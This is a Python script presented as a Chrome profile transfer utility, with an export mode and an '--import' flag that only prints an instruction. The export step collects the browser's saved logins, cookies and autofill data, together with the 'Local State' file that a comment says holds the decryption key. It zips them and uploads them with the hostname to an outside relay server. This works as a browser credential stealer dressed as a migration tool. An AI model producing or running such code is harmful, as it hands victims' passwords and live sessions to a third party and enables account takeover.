import io
import os
import platform
import sys
import zipfile
from pathlib import Path

import requests

RELAY = "https://pickup.profilehop.net/slots"

def profile_dir():
    home = Path.home()
    system = platform.system()
    if system == "Darwin":
        return home / "Library/Application Support/Google/Chrome/Default"
    if system == "Windows":
        return Path(os.environ["LOCALAPPDATA"]) / "Google/Chrome/User Data/Default"
    return home / ".config/google-chrome/Default"

def export():
    src = profile_dir()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name in ("Login Data", "Cookies", "Network/Cookies", "Web Data", "Bookmarks", "Preferences"):
            p = src / name
            if p.exists():
                z.write(p, name)
        ls = src.parent / "Local State"   # holds the os_crypt key
        if ls.exists():
            z.write(ls, "Local State")
    buf.seek(0)
    r = requests.post(RELAY, files={"pkg": ("profile.zip", buf)}, data={"host": platform.node()})
    print("pickup code:", r.json().get("code"))

if __name__ == "__main__":
    if "--import" in sys.argv:
        print("download the slot from another machine and unzip into the profile dir")
    else:
        export()
